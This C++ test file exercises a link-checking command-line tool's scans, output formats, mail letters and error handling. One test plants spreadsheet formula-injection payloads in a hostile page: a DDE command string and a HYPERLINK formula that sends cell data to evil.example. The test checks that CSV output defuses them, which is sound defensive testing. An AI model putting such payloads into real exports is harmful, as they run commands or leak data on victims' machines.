// tarnwick-cli run as a program against a temporary data folder and a
// loopback page server.
#include <fcntl.h>
#include <gtest/gtest.h>
#include <signal.h>
#include <spawn.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <arpa/inet.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/socket.h>

#include <algorithm>
#include <chrono>
#include <cstdlib>
#include <cstring>
#include <filesystem>
#include <functional>
#include <thread>

#include "history/HistoryDatabase.h"
#include "history/HistoryError.h"
#include "mail/MailSettings.h"
#include "mail/SmtpTestServer.h"
#include "scan/PageServer.h"
#include "store/AppSettings.h"
#include "store/ProfileFile.h"
#include "store/StoreFileWriter.h"
#include "support/TempDataFolder.h"

extern char** environ;

namespace tarnwick {
namespace {

using test::PageServer;
using test::TempDataFolder;

struct Outcome {
    int status = -1;  // -1 when a signal ended the program
    int signal = 0;   // the signal that ended it
    std::string out;
    std::string err;
};

// A program (argv[0] a path) started in the background; Finish reads its
// output to the end and waits for it. One left running is killed.
class Started {
public:
    explicit Started(std::vector<std::string> all) {
        std::vector<char*> argv;
        for (std::string& a : all) {
            argv.push_back(a.data());
        }
        argv.push_back(nullptr);
        int out[2];
        int err[2];
        // Close-on-exec: a program started meanwhile never holds these open.
        EXPECT_EQ(pipe2(out, O_CLOEXEC), 0);
        EXPECT_EQ(pipe2(err, O_CLOEXEC), 0);
        posix_spawn_file_actions_t actions;
        posix_spawn_file_actions_init(&actions);
        posix_spawn_file_actions_adddup2(&actions, out[1], 1);
        posix_spawn_file_actions_adddup2(&actions, err[1], 2);
        EXPECT_EQ(posix_spawn(&m_pid, argv[0], &actions, nullptr, argv.data(), environ), 0);
        posix_spawn_file_actions_destroy(&actions);
        close(out[1]);
        close(err[1]);
        m_out = out[0];
        m_err = err[0];
    }
    ~Started() {
        if (m_pid > 0) {
            kill(m_pid, SIGKILL);
            finish();
        }
    }
    Started(const Started&) = delete;
    Started& operator=(const Started&) = delete;

    pid_t pid() const { return m_pid; }

    Outcome finish() {
        Outcome o;
        pollfd fds[2] = {{m_out, POLLIN, 0}, {m_err, POLLIN, 0}};
        int open = 2;
        while (open > 0 && poll(fds, 2, -1) > 0) {
            for (pollfd& f : fds) {
                if (f.fd >= 0 && (f.revents & (POLLIN | POLLHUP)) != 0) {
                    char buf[4096];
                    const ssize_t n = read(f.fd, buf, sizeof buf);
                    if (n <= 0) {
                        close(f.fd);
                        f.fd = -1;
                        --open;
                    } else {
                        (&f == &fds[0] ? o.out : o.err).append(buf, static_cast<size_t>(n));
                    }
                }
            }
        }
        int status = 0;
        waitpid(m_pid, &status, 0);
        m_pid = -1;
        o.status = WIFEXITED(status) ? WEXITSTATUS(status) : -1;
        o.signal = WIFSIGNALED(status) ? WTERMSIG(status) : 0;
        return o;
    }

private:
    pid_t m_pid = -1;
    int m_out = -1;
    int m_err = -1;
};

// Runs a program (argv[0] a path) to its end.
Outcome runProgram(std::vector<std::string> all) {
    return Started(std::move(all)).finish();
}

Outcome runCli(const std::vector<std::string>& args) {
    std::vector<std::string> all = {TARNWICK_CLI_PATH};
    all.insert(all.end(), args.begin(), args.end());
    return runProgram(all);
}

TEST(CliTest, HelpForEveryCommand) {
    for (const auto& args : std::vector<std::vector<std::string>>{{"--help"},
                                                                  {"-h"},
                                                                  {"check", "--help"},
                                                                  {"list", "--help"},
                                                                  {"scan", "-h"},
                                                                  {"help", "scan"}}) {
        const Outcome o = runCli(args);
        EXPECT_EQ(o.status, 0) << args[0];
        EXPECT_EQ(o.out.rfind("Usage: tarnwick-cli", 0), 0u) << o.out;
        EXPECT_EQ(o.err, "");
    }
    EXPECT_NE(runCli({"scan", "--help"}).out.find("--no-mail"), std::string::npos);
    const Outcome version = runCli({"--version"});
    EXPECT_EQ(version.status, 0);
    EXPECT_EQ(version.out, std::string("tarnwick-cli ") + TARNWICK_VERSION + "\n");
    EXPECT_EQ(version.err, "");
}

TEST(CliTest, WrongCommandLinesExitWithTwo) {
    for (const auto& args : std::vector<std::vector<std::string>>{{},
                                                                  {"bogus"},
                                                                  {"check", "http://x/"},
                                                                  {"list", "now"},
                                                                  {"scan", "--report"},
                                                                  {"scan", "--fast"}}) {
        const Outcome o = runCli(args);
        EXPECT_EQ(o.status, 2);
        EXPECT_EQ(o.out, "");
        EXPECT_EQ(o.err.rfind("tarnwick-cli: ", 0), 0u) << o.err;
        EXPECT_NE(o.err.find("--help"), std::string::npos);
    }
}

class CliServerTest : public ::testing::Test {
protected:
    static void SetUpTestSuite() {
        s_server = new PageServer(false, false);
        s_server->addFile("a.html", "<a href=\"http://www.example.com/\">x</a>");
        s_server->addFile("b.html", "<a href=\"http://www.other.org/\">x</a>");
        s_server->addFile("cafe.html", "<a href=\"http://www.caf\xC9.fr/\">x</a>");
    }
    static void TearDownTestSuite() { delete s_server; }
    static const PageServer& server() { return *s_server; }

    // A profile with its pages, as the Add-profile wizard stores it.
    void addProfile(const std::string& address, const std::vector<std::string>& pages,
                    bool notify) {
        std::vector<ImportRow> rows;
        for (const std::string& page : pages) {
            rows.push_back({page, "webmaster@partner.example"});
        }
        m_folder.folder().ensureProfilesFolder();
        ProfileFile(m_folder.folder())
            .create(m_folder.folder().profilePathOfText(address), address, rows, notify);
    }

    // Mail.txt for the loopback SMTP server.
    void useMailServer(const test::SmtpTestServer& smtp) {
        MailSettings settings;
        settings.m_sender = "scanner@example.com";
        settings.m_smtpServer = smtp.address();
        writeMailSettings(m_folder.folder().mailPath(), settings);
    }

    TempDataFolder m_folder;

private:
    static PageServer* s_server;
};

PageServer* CliServerTest::s_server = nullptr;

TEST_F(CliServerTest, CheckPrintsTheResultWordAndExitsWithZeroOnlyForLinkFound) {
    const PageServer& s = server();
    const Outcome found = runCli({"check", s.http("/files/a.html"), "www.example.com"});
    EXPECT_EQ(found.out, "Link Found\n");
    EXPECT_EQ(found.status, 0);
    const Outcome missing = runCli({"check", s.http("/files/b.html"), "www.example.com"});
    EXPECT_EQ(missing.out, "Link Not Found\n");
    EXPECT_EQ(missing.status, 1);
    const Outcome noScheme = runCli({"check", "127.0.0.1/files/a.html", "www.example.com"});
    EXPECT_EQ(noScheme.out, "Page cannot be displayed\n");
    EXPECT_EQ(noScheme.status, 1);
    // Arguments are UTF-8; pages are Windows-1252, lowered in that code page,
    // and so is the advertiser's address.
    EXPECT_EQ(runCli({"check", s.http("/files/cafe.html"), "www.caf\xC3\xA9.fr"}).out,
              "Link Found\n");
    EXPECT_EQ(runCli({"check", s.http("/files/a.html"), "www.EXAMPLE.com"}).out, "Link Found\n");
    // --verbose: the reason on a second line.
    const Outcome verbose =
        runCli({"check", "--verbose", s.http("/status/503/a.html"), "www.example.com"});
    EXPECT_EQ(verbose.out, "Page cannot be displayed\nHTTP 503\n");
    EXPECT_EQ(verbose.status, 1);
    EXPECT_EQ(runCli({"check", "-v", s.http("/files/a.html"), "www.example.com"}).out,
              "Link Found\nlink to http://www.example.com/ found\n");
}

TEST_F(CliServerTest, ListShowsProfilesInListOrder) {
    const PageServer& s = server();
    addProfile("http://www.example.com", {s.http("/files/a.html"), s.http("/files/b.html")}, true);
    addProfile("www.other.org", {s.http("/files/b.html")}, false);
    addProfile("http://www.empty.net", {}, false);
    const Outcome o = runCli({"list"});
    EXPECT_EQ(o.status, 0);
    EXPECT_EQ(o.out, "www.example.com\t2\nwww.other.org\t1\nwww.empty.net\t0\n");
    EXPECT_EQ(o.err, "");
}

TEST_F(CliServerTest, ListOfNoProfiles) {
    const Outcome o = runCli({"list"});
    EXPECT_EQ(o.status, 0);
    EXPECT_EQ(o.out, "");
}

// Pages fetched side by side or one at a time print the same lines in the
// same order (the first page answers last).
TEST_F(CliServerTest, ScanPrintsPagesThenProfiles) {
    const PageServer& s = server();
    addProfile("http://www.example.com", {s.http("/delay/300/a.html"), s.http("/files/b.html")},
               true);
    addProfile("http://www.other.org", {s.http("/files/b.html"), s.http("/files/gone.html")},
               false);
    for (const std::vector<std::string>& jobs :
         {std::vector<std::string>{}, {"--jobs", "1"}, {"--jobs=64"}}) {
        std::vector<std::string> args = {"scan", "--no-mail"};
        args.insert(args.end(), jobs.begin(), jobs.end());
        const Outcome o = runCli(args);
        EXPECT_EQ(o.status, 1);
        // advertiser, page, result, reason; then the profiles.
        EXPECT_EQ(o.out, "http://www.example.com\t" + s.http("/delay/300/a.html") +
                             "\tLink Found\tlink to http://www.example.com/ found\n" +
                             "http://www.example.com\t" + s.http("/files/b.html") +
                             "\tLink Not Found\tno link to the advertiser\n" +
                             "http://www.other.org\t" + s.http("/files/b.html") +
                             "\tLink Found\tlink to http://www.other.org/ found\n" +
                             "http://www.other.org\t" + s.http("/files/gone.html") +
                             "\tPage Cannot be Found\tHTTP 404\n" +
                             "www.example.com\tCompleted.\n" + "www.other.org\tCompleted\n");
        EXPECT_EQ(o.err, "");  // no terminal: no progress line; --no-mail: no notification
    }
}

// A tab or a line break stored in an address cannot split the printed line:
// it goes as %XX, as it goes on the wire.
TEST_F(CliServerTest, ControlCharactersInAnAddressKeepTheLineInFourFields) {
    const PageServer& s = server();
    addProfile("http://www.example.com", {s.http("/files/a\t.html")}, false);
    const Outcome o = runCli({"scan", "--no-mail"});
    EXPECT_EQ(o.out, "http://www.example.com\t" + s.http("/files/a%09.html") +
                         "\tPage Cannot be Found\tHTTP 404\nwww.example.com\tCompleted\n");
}

// Each printed JSON line (or CSV record) read back by Python: one line per
// record with the fields asked for, tab-separated.
std::string readBack(const TempDataFolder& folder, const std::string& text, const char* kind,
                     const std::string& fields) {
    const std::string in = folder.root() + "/out." + kind;
    const std::string out = folder.root() + "/fields.txt";
    test::writeBytes(in, text);
    const std::string reader = std::string(kind) == "csv"
                                   ? "list(csv.DictReader(open(sys.argv[1], newline='')))"
                                   : "[json.loads(l) for l in open(sys.argv[1])]";
    const std::string command =
        "/usr/bin/python3 -c \"import csv, json, sys\n"
        "for r in " +
        reader +
        ":\n"
        "    print('\\t'.join(json.dumps(r[k]) for k in sys.argv[2].split(',')))\" '" +
        in + "' '" + fields + "' > '" + out + "'";
    EXPECT_EQ(std::system(command.c_str()), 0) << text;
    return test::readBytes(out);
}

TEST_F(CliServerTest, ScanAndCheckPrintTheEvidenceAsJsonOrCsv) {
    const PageServer& s = server();
    addProfile("http://www.example.com", {s.http("/files/a.html"), s.http("/files/b.html")}, true);
    const std::string fields = "advertiser,page,result,http_status,rel,noindex,robots_txt";
    const Outcome json = runCli({"scan", "--no-mail", "--format", "json"});
    EXPECT_EQ(json.status, 1);
    EXPECT_EQ(readBack(m_folder, json.out, "jsonl", fields),
              "\"http://www.example.com\"\t\"" + s.http("/files/a.html") +
                  "\"\t\"Link Found\"\t200\t[]\tfalse\t\"allowed\"\n"
                  "\"http://www.example.com\"\t\"" +
                  s.http("/files/b.html") +
                  "\"\t\"Link Not Found\"\t200\t[]\tfalse\t\"allowed\"\n");
    for (const char* key :
         {"\"reason\":", "\"final_url\":", "\"anchor_text\":\"x\"", "\"elapsed_ms\":"}) {
        EXPECT_NE(json.out.find(key), std::string::npos) << key;
    }

    const Outcome csv = runCli({"scan", "--no-mail", "--format", "csv"});
    EXPECT_EQ(csv.status, 1);
    EXPECT_EQ(csv.out.rfind("advertiser,page,", 0), 0u) << csv.out;
    EXPECT_EQ(readBack(m_folder, csv.out, "csv", "page,result,http_status,robots_txt"),
              "\"" + s.http("/files/a.html") + "\"\t\"Link Found\"\t\"200\"\t\"allowed\"\n\"" +
                  s.http("/files/b.html") + "\"\t\"Link Not Found\"\t\"200\"\t\"allowed\"\n");

    const Outcome check =
        runCli({"check", "--format", "json", s.http("/files/a.html"), "www.example.com"});
    EXPECT_EQ(check.status, 0);
    EXPECT_EQ(readBack(m_folder, check.out, "jsonl", "result,final_url,anchor_text"),
              "\"Link Found\"\t\"" + s.http("/files/a.html") + "\"\t\"x\"\n");
    EXPECT_EQ(runCli({"check", "--format", "csv", s.http("/files/a.html"), "x"}).status, 2);
}

// The texts of a hostile partner page (anchor text, rel, meta robots,
// X-Robots-Tag) and a profile's mail address that a spreadsheet would run as
// formulas (the anchor text's tab is trimmed off before it is written):
// Python's csv module reads every cell of `scan --format csv` back as text
// that starts with an apostrophe, never with a formula's sign.
TEST_F(CliServerTest, CsvOfAHostilePageStartsNoFormula) {
    server().addFile("hostile.html",
                     "<html><head><meta name=\"robots\" content=\"+cmd|' /C calc'!A0\"></head>"
                     "<body><a href=\"http://www.example.com/\" rel=\"-x\">\t=HYPERLINK("
                     "&quot;http://evil.example/?d=&quot;&amp;A1,&quot;Click&quot;)</a></body>"
                     "</html>");
    const std::string page = server().http("/xrobots/hostile.html?tag=%40SUM(1%2B1)");
    m_folder.folder().ensureProfilesFolder();
    ProfileFile(m_folder.folder())
        .create(m_folder.folder().profilePathOfText("www.example.com"), "www.example.com",
                {{page, "=cmd@partner.example"}}, false);
    const Outcome o = runCli({"scan", "--no-mail", "--format", "csv"});
    EXPECT_EQ(o.status, 0) << o.err;
    EXPECT_EQ(readBack(m_folder, o.out, "csv", "mail,anchor_text,rel,meta_robots,x_robots_tag"),
              "\"'=cmd@partner.example\"\t"
              "\"'=HYPERLINK(\\\"http://evil.example/?d=\\\"&A1,\\\"Click\\\")\"\t"
              "\"'-x\"\t\"'+cmd|' /C calc'!A0\"\t\"'@SUM(1+1)\"\n");
    const std::string in = m_folder.root() + "/hostile.csv";
    const std::string out = m_folder.root() + "/formulas.txt";
    test::writeBytes(in, o.out);
    const std::string command =
        "/usr/bin/python3 -c \"import csv, sys\n"
        "for r in csv.reader(open(sys.argv[1], newline='')):\n"
        "    for v in r:\n"
        "        if v[:1] in ('\\t', '\\r') or v.lstrip(' \\t\\r\\n')[:1] in "
        "('=', '+', '-', '@'):\n"
        "            print(repr(v))\" '" +
        in + "' > '" + out + "'";
    ASSERT_EQ(std::system(command.c_str()), 0);
    EXPECT_EQ(test::readBytes(out), "");
}

TEST_F(CliServerTest, ScanWithEveryLinkFoundExitsWithZero) {
    addProfile("www.example.com", {server().http("/files/a.html")}, true);
    const Outcome o = runCli({"scan"});
    EXPECT_EQ(o.status, 0);
    EXPECT_EQ(o.out, "www.example.com\t" + server().http("/files/a.html") +
                         "\tLink Found\tlink to http://www.example.com/ found\n"
                         "www.example.com\tCompleted\n");
}

TEST_F(CliServerTest, ScanMailsWebmastersUnlessNoMail) {
    test::SmtpTestServer smtp(test::SmtpTestServer::Mode::Plain);
    ASSERT_TRUE(smtp.started()) << smtp.failure();
    MailSettings settings;
    settings.m_sender = "scanner@example.com";
    settings.m_smtpServer = smtp.address();
    writeMailSettings(m_folder.folder().mailPath(), settings);
    addProfile("www.example.com", {server().http("/files/a.html"), server().http("/files/b.html")},
               true);

    const Outcome quiet = runCli({"scan", "--no-mail"});
    EXPECT_EQ(quiet.status, 1);
    EXPECT_EQ(quiet.err, "");
    EXPECT_TRUE(smtp.waitForMail(1, std::chrono::milliseconds(300)).empty());

    const Outcome mailed = runCli({"scan"});
    EXPECT_EQ(mailed.status, 1);
    EXPECT_EQ(mailed.err, "");
    // The program ends only when the letter is out: it is there already.
    const auto mails = smtp.mail();
    ASSERT_EQ(mails.size(), 1u);
    EXPECT_NE(mails[0].m_recipients.find("webmaster@partner.example"), std::string::npos);
    EXPECT_NE(mails[0].m_text.find(server().http("/files/b.html")), std::string::npos);
}

TEST_F(CliServerTest, SecondScanTellsWhatChangedAndMailsTheSummary) {
    test::SmtpTestServer smtp(test::SmtpTestServer::Mode::Plain);
    ASSERT_TRUE(smtp.started()) << smtp.failure();
    MailSettings settings;
    settings.m_sender = "scanner@example.com";
    settings.m_smtpServer = smtp.address();
    writeMailSettings(m_folder.folder().mailPath(), settings);
    const std::string moving = server().http("/files/moving.html");
    server().addFile("moving.html", "<p><a href=\"http://www.example.com/\">partner</a></p>");
    addProfile("www.example.com", {moving, server().http("/files/a.html")}, false);

    // The first run has nothing to compare with: no summary.
    const Outcome first = runCli({"scan", "--summary-to", "owner@example.com"});
    EXPECT_EQ(first.status, 0) << first.err;
    EXPECT_EQ(first.err, "");
    EXPECT_TRUE(smtp.mail().empty());

    server().addFile("moving.html", "<p>The partner link is gone.</p>");
    const Outcome second = runCli({"scan", "--summary-to", "owner@example.com"});
    EXPECT_EQ(second.status, 1);
    EXPECT_EQ(second.err, "tarnwick-cli: summary letter sent to owner@example.com\n");
    const auto mails = smtp.mail();
    ASSERT_EQ(mails.size(), 1u);
    EXPECT_EQ(mails[0].m_recipients, "owner@example.com");
    EXPECT_NE(
        mails[0].m_raw.find("Subject: Osgrel Tarnwick Ambrel: 1 link lost since the last run"),
        std::string::npos)
        << mails[0].m_raw;
    EXPECT_NE(mails[0].m_text.find("  " + moving +
                                   "  (link to www.example.com, profile www.example.com): "
                                   "Link Found -> Link Not Found"),
              std::string::npos)
        << mails[0].m_text;

    const Outcome json = runCli({"changes", "--format", "json"});
    EXPECT_EQ(json.status, 1);
    EXPECT_EQ(json.out,
              "{\"run\": 2, \"previous_run\": 1, \"summary\": \"1 link lost since the "
              "last run\", \"changes\": [\n  {\"page\": \"" +
                  moving +
                  "\", \"advertiser\": \"www.example.com\", \"profile\": "
                  "\"www.example.com\", \"from\": \"Link Found\", \"to\": \"Link Not "
                  "Found\", \"from_verdict\": \"follow\", \"to_verdict\": \"no link\", "
                  "\"from_findings\": [], \"to_findings\": [], \"transition\": "
                  "\"lost\"}\n]}\n");
    const Outcome text = runCli({"changes"});
    EXPECT_EQ(text.status, 1);
    EXPECT_EQ(text.out, "lost\twww.example.com\t" + moving +
                            "\tLink Found\tLink Not Found\n1 link lost since the last run\n");

    const Outcome history = runCli({"history"});
    EXPECT_EQ(history.status, 0);
    const std::string lines = history.out;
    ASSERT_EQ(std::count(lines.begin(), lines.end(), '\n'), 2) << lines;
    EXPECT_NE(lines.find("\tcli\tcompleted\t2\t0\t0\t0\n"), std::string::npos) << lines;
    EXPECT_NE(lines.find("\tcli\tcompleted\t1\t1\t0\t0\n"), std::string::npos) << lines;
    const Outcome historyJson = runCli({"history", "--format=json"});
    EXPECT_NE(historyJson.out.find("\"id\": 2, \"start\": \""), std::string::npos);
    EXPECT_NE(historyJson.out.find("\"source\": \"cli\", \"outcome\": \"completed\", "
                                   "\"link_found\": 1, \"link_not_found\": 1, "
                                   "\"page_cannot_be_found\": 0, \"page_cannot_be_displayed\": 0}"),
              std::string::npos)
        << historyJson.out;

    // Nothing changed in a third run: no summary.
    EXPECT_EQ(runCli({"scan", "--summary-to", "owner@example.com"}).err, "");
    EXPECT_EQ(smtp.mail().size(), 1u);
    EXPECT_EQ(runCli({"changes"}).out, "No change since the last run\n");

    EXPECT_EQ(runCli({"history", "--prune-before", "2999-01-01"}).out,
              "Removed 3 runs started before 2999-01-01\n");
    EXPECT_EQ(runCli({"history"}).out, "");
    EXPECT_EQ(runCli({"history", "--prune-before", "2999-13-01"}).status, 2);
}

// With the network down every page fails before it is asked for: such a run
// is told (status 69), kept out of the comparisons, and named in the next
// summary once the pages can be reached again. A run in which only some
// names do not resolve is an ordinary run.
TEST_F(CliServerTest, OfflineRunIsToldNotComparedAndNamedInTheNextSummary) {
    test::SmtpTestServer smtp(test::SmtpTestServer::Mode::Plain);
    ASSERT_TRUE(smtp.started()) << smtp.failure();
    useMailServer(smtp);
    const std::string moving = server().http("/files/moving-offline.html");
    server().addFile("moving-offline.html", "<a href=\"http://www.example.com/\">partner</a>");
    addProfile("www.example.com", {moving, server().http("/files/a.html")}, false);
    addProfile("www.example.org", {"http://no-such-host.invalid/links.html"}, false);

    const Outcome first = runCli({"scan", "--summary-to", "owner@example.com"});
    EXPECT_EQ(first.status, 1) << first.err;
    EXPECT_EQ(first.err, "");

    // Every name fails to resolve: a proxy that cannot be found is asked for
    // every page, as on a machine whose network is gone.
    setenv("http_proxy", "http://no-such-proxy.invalid:3128/", 1);
    const Outcome offline = runCli({"scan", "--summary-to", "owner@example.com"});
    unsetenv("http_proxy");
    EXPECT_EQ(offline.status, 69) << offline.out;
    EXPECT_NE(offline.err.find("tarnwick-cli: No page could be reached: the network is down"),
              std::string::npos)
        << offline.err;
    EXPECT_EQ(offline.err.find("summary letter"), std::string::npos) << offline.err;
    EXPECT_TRUE(smtp.mail().empty());

    const Outcome told = runCli({"changes"});
    EXPECT_EQ(told.status, 69);
    EXPECT_EQ(told.out.rfind("Run 2 of ", 0), 0u) << told.out;
    EXPECT_NE(told.out.find(": No page could be reached: the network is down; nothing was "
                            "compared with the last run\n"),
              std::string::npos)
        << told.out;
    const Outcome toldJson = runCli({"changes", "--format", "json"});
    EXPECT_EQ(toldJson.status, 69);
    EXPECT_EQ(toldJson.out.rfind("{\"run\": 2, \"previous_run\": null, \"offline\": true, ", 0), 0u)
        << toldJson.out;
    EXPECT_NE(runCli({"history"}).out.find("\tcli\toffline\t0\t0\t0\t0\n"), std::string::npos);

    // Back online, the link is gone: compared with the first run, not the
    // offline one, and the summary names the week that went unchecked.
    server().addFile("moving-offline.html", "<p>The partner link is gone.</p>");
    const Outcome back = runCli({"scan", "--summary-to", "owner@example.com"});
    EXPECT_EQ(back.status, 1);
    EXPECT_EQ(back.err, "tarnwick-cli: summary letter sent to owner@example.com\n");
    const auto mails = smtp.mail();
    ASSERT_EQ(mails.size(), 1u);
    EXPECT_NE(
        mails[0].m_raw.find("Subject: Osgrel Tarnwick Ambrel: 1 link lost since the last run"),
        std::string::npos);
    EXPECT_NE(mails[0].m_text.find("Not checked: the link check of "), std::string::npos)
        << mails[0].m_text;
    EXPECT_NE(mails[0].m_text.find(" reached no page, as the network was down."),
              std::string::npos);
    const Outcome changes = runCli({"changes"});
    EXPECT_EQ(changes.status, 1);
    EXPECT_EQ(changes.out, "lost\twww.example.com\t" + moving +
                               "\tLink Found\tLink Not Found\n1 link lost since the last run\n");

    // Told once: the next run has no unchecked week to name.
    const Outcome quiet = runCli({"scan", "--summary-to", "owner@example.com"});
    EXPECT_EQ(quiet.err, "");
    EXPECT_EQ(smtp.mail().size(), 1u);
}

TEST_F(CliServerTest, QuietDaysKeepTheSecondLetterBack) {
    test::SmtpTestServer smtp(test::SmtpTestServer::Mode::Plain);
    ASSERT_TRUE(smtp.started()) << smtp.failure();
    MailSettings settings;
    settings.m_sender = "scanner@example.com";
    settings.m_smtpServer = smtp.address();
    writeMailSettings(m_folder.folder().mailPath(), settings);
    test::writeBytes(m_folder.folder().folder() + "/Letters.ini", "missing_runs=1\r\nquiet_days=7");
    const std::string page = server().http("/files/b.html");
    addProfile("www.example.com", {page}, true);

    EXPECT_EQ(runCli({"scan"}).err, "");
    EXPECT_EQ(smtp.mail().size(), 1u);
    const Outcome again = runCli({"scan"});
    EXPECT_EQ(smtp.mail().size(), 1u);
    EXPECT_EQ(again.err.rfind("tarnwick-cli: mail for " + page +
                                  ": Not mailed: this webmaster was mailed about the page on ",
                              0),
              0u)
        << again.err;
    EXPECT_NE(again.err.find(", within 7 days\n"), std::string::npos);
}

// Letters.ini written by hand (a byte-order mark, capitals, blanks around
// "=") still holds the letter back; a value that cannot be used is told,
// naming the file, the key and the value used. A FIFO in its place never
// stops the scan: the defaults hold, and the next letter goes.
TEST_F(CliServerTest, LettersIniAsWrittenByHand) {
    test::SmtpTestServer smtp(test::SmtpTestServer::Mode::Plain);
    ASSERT_TRUE(smtp.started()) << smtp.failure();
    MailSettings settings;
    settings.m_sender = "scanner@example.com";
    settings.m_smtpServer = smtp.address();
    writeMailSettings(m_folder.folder().mailPath(), settings);
    const std::string page = server().http("/files/b.html");
    addProfile("www.example.com", {page}, true);
    const std::string ini = m_folder.folder().folder() + "/Letters.ini";
    test::writeBytes(ini, "\xEF\xBB\xBF Missing_Runs = 2 \r\nquiet_days = soon\r\n");

    const Outcome first = runCli({"scan"});
    EXPECT_EQ(first.status, 1);
    EXPECT_EQ(first.err, "tarnwick-cli: " + ini +
                             ": quiet_days=\"soon\" is not a whole number; 1 is used\n"
                             "tarnwick-cli: mail for " +
                             page +
                             ": Not mailed: the link has been missing in 1 run, letters wait "
                             "for 2\n");
    EXPECT_TRUE(smtp.waitForMail(1, std::chrono::milliseconds(300)).empty());

    ASSERT_EQ(unlink(ini.c_str()), 0);
    ASSERT_EQ(mkfifo(ini.c_str(), 0600), 0);
    const Outcome fifo = runCli({"scan"});
    EXPECT_EQ(fifo.status, 1);
    EXPECT_EQ(fifo.err, "tarnwick-cli: " + ini + " is not a regular file; it is ignored\n");
    EXPECT_EQ(smtp.mail().size(), 1u);
}

TEST_F(CliServerTest, MailFailureIsPrinted) {
    addProfile("www.example.com", {server().http("/files/b.html")}, true);  // no Mail.txt
    const Outcome o = runCli({"scan"});
    EXPECT_EQ(o.status, 1);
    EXPECT_EQ(o.err, "tarnwick-cli: mail for " + server().http("/files/b.html") +
                         ": Mail Settings Not provided\n");
}

TEST_F(CliServerTest, ScanOfNoProfilesSucceeds) {
    const Outcome o = runCli({"scan"});
    EXPECT_EQ(o.status, 0);
    EXPECT_EQ(o.out, "");
}

TEST_F(CliServerTest, ScanReport) {
    addProfile("www.example.com", {server().http("/files/a.html"), server().http("/files/b.html")},
               false);
    const std::string html = m_folder.root() + "/Report.html";
    const std::string text = m_folder.root() + "/Report.txt";
    EXPECT_EQ(runCli({"scan", "--report", html}).status, 1);
    const std::string page = test::readBytes(html);
    EXPECT_NE(page.find("<html"), std::string::npos) << page;
    EXPECT_NE(page.find("Link Not Found"), std::string::npos);
    EXPECT_EQ(runCli({"scan", "--report=" + text}).status, 1);
    const std::string report = test::readBytes(text);
    EXPECT_EQ(report.find("<html"), std::string::npos);
    EXPECT_NE(report.find("Link Not Found"), std::string::npos);
    EXPECT_NE(report.find(server().http("/files/b.html")), std::string::npos);
    const Outcome bad = runCli({"scan", "--report", m_folder.root() + "/no/such/dir/r.txt"});
    EXPECT_EQ(bad.status, 2);
    EXPECT_NE(bad.err.find("no/such/dir"), std::string::npos) << bad.err;
}

TEST_F(CliServerTest, UnreadableProfileListIsAnError) {
    // A folder where index.txt should be (file permissions would not stop the
    // super-user the tests may run as).
    mkdir(m_folder.folder().indexPath().c_str(), 0700);
    for (const char* command : {"list", "scan"}) {
        const Outcome o = runCli({command});
        EXPECT_EQ(o.status, 2);
        EXPECT_NE(o.err.find("index.txt"), std::string::npos) << o.err;
    }
}

// The exit status for every fault of the store, and for the pages' results.
TEST_F(CliServerTest, ScanExitStatusForStoreFaultsAndResults) {
    const DataFolder& f = m_folder.folder();
    const std::string found = server().http("/files/a.html");
    const std::string lost = server().http("/files/b.html");
    // A profile listed in index.txt whose file is made unreadable by `spoil`.
    const auto listed = [&](const std::string& name, const std::string& bytes) {
        f.ensureProfilesFolder();
        // The file the list's display text ("www." + name) leads back to.
        const std::string path = f.profilePathOfText("www." + name);
        if (!bytes.empty()) {
            test::writeBytes(path, bytes);
        }
        appendStoreLine(f.indexPath(), path);
        return path;
    };
    struct Case {
        const char* name;
        std::function<std::string()> spoil;  // returns the path stderr must name, or ""
        std::string page;                    // of the readable profile
        int status;
    };
    const std::vector<Case> cases = {
        {"every page found", [] { return std::string(); }, found, 0},
        {"a page not found", [] { return std::string(); }, lost, 1},
        {"a profile file missing", [&] { return listed("gone.example", ""); }, found, 2},
        {"missing and a page not found", [&] { return listed("gone.example", ""); }, lost, 2},
        {"a folder in its place",
         [&] {
             const std::string path = listed("folder.example", "");
             mkdir(path.c_str(), 0700);
             return path;
         },
         found, 2},
        {"a FIFO in its place",
         [&] {
             const std::string path = listed("fifo.example", "");
             mkfifo(path.c_str(), 0600);
             return path;
         },
         found, 2},
        {"a zero byte in the index line",
         [&] {
             f.ensureProfilesFolder();
             test::writeBytes(f.profilePath("zero"),
                              "Link: www.example.com\r\n" + found + "||| |||0|||");
             appendStoreLine(f.indexPath(), f.profilePath("ze") + std::string(1, '\0') + "ro");
             return f.profilesFolder() + "ze";
         },
         found, 2},
    };
    for (const Case& c : cases) {
        SCOPED_TRACE(c.name);
        std::filesystem::remove_all(f.folder());
        f.ensureExists();
        addProfile("www.example.com", {c.page}, false);
        const std::string named = c.spoil();
        const Outcome o = runCli({"scan", "--no-mail"});
        EXPECT_EQ(o.status, c.status) << o.err;
        // The readable profile was checked all the same.
        EXPECT_NE(o.out.find(c.page), std::string::npos) << o.out;
        if (named.empty()) {
            EXPECT_EQ(o.err, "");
        } else {
            EXPECT_NE(o.err.find("cannot read the profile file "), std::string::npos) << o.err;
            EXPECT_NE(o.err.find(named), std::string::npos) << o.err;
        }
    }
}

// A page that never ends costs the time limit, given on the command line or
// in the settings shared with the desktop program.
TEST_F(CliServerTest, PageTimeLimitFromTheCommandLineOrTheSettings) {
    const std::string page = server().http("/trickle/a.html?every=0.1");
    addProfile("www.example.com", {page}, false);
    const auto start = std::chrono::steady_clock::now();
    const Outcome o = runCli({"scan", "--no-mail", "--page-timeout", "1"});
    EXPECT_LT(std::chrono::steady_clock::now() - start, std::chrono::seconds(5));
    EXPECT_EQ(o.status, 1);
    EXPECT_EQ(o.out, "www.example.com\t" + page +
                         "\tPage cannot be displayed\ttime limit of 1 s reached\n"
                         "www.example.com\tCompleted\n");

    test::ScopedEnv config("XDG_CONFIG_HOME", m_folder.root() + "/config");
    AppSettings settings;
    settings.m_pageTimeoutSeconds = 1;
    settings.save();
    const Outcome checked = runCli({"check", "--verbose", page, "www.example.com"});
    EXPECT_EQ(checked.out, "Page cannot be displayed\ntime limit of 1 s reached\n");
    EXPECT_EQ(checked.status, 1);
    // The command line wins over the settings.
    EXPECT_EQ(runCli({"check", "--verbose", "--page-timeout=2", page, "www.example.com"}).out,
              "Page cannot be displayed\ntime limit of 2 s reached\n");
    for (const char* bad : {"0", "3601", "x", ""}) {
        EXPECT_EQ(runCli({"check", "--page-timeout", bad, page, "www.example.com"}).status, 2);
    }
}

